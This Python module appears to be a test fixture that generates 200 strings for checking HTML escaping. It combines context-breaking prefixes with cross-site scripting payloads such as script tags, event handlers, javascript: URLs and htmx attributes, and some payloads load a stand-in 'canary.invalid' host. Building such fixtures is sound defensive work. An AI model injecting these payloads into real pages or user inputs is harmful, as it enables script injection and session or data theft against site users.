"""Texts that would do something in a page that did not escape them: 200, of each way into a page with each way out."""

from __future__ import annotations

from itertools import product

CANARY = "https://canary.invalid/"
"""No page asks for anything there."""
_WAYS_IN = (
    "{}",
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "--><!--{}-->",
    "]]>{}",
    "</td></tr></table>{}",
    "\u202e{}\u2066",
    "{{{{ 7 * 7 }}}}{{% raw %}}{}",
    "\x00\ufffe{}",
)
_WAYS_OUT = (
    "<script>pwned=1</script>",
    "<ScRiPt src={canary}></sCrIpT>",
    "<img src=x onerror=pwned=1>",
    "<svg/onload=pwned=1>",
    '<iframe srcdoc="<script>parent.pwned=1</script>">',
    '<a href="javascript:pwned=1" autofocus onfocus=pwned=1>x</a>',
    "<details open ontoggle=pwned=1>",
    "<form action={canary}><button autofocus>send",
    '<div hx-get="{canary}" hx-trigger="load" hx-on:load="pwned=1"></div>',
    '<div hx-sse:connect="{canary}" hx-trigger="load"></div>',
    "<style>@import '{canary}'</style>",
    '<meta http-equiv="refresh" content="0;url={canary}">',
    "<base href={canary}>",
    "<object data={canary}></object>",
    '" onmouseover="pwned=1" autofocus onfocus="pwned=1" x="',
    "javascript:pwned=1//",
)
TEXTS = (
    *tuple(way_in.format(way_out.replace("{canary}", CANARY)) for way_in, way_out in product(_WAYS_IN, _WAYS_OUT)),
    "a" * 4000,
    "\ud7ff" * 300,
    "<" * 400,
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "%3Cscript%3Epwned=1",
    "\\\"'`",
    "",
    " ",
)
"""200 of them."""
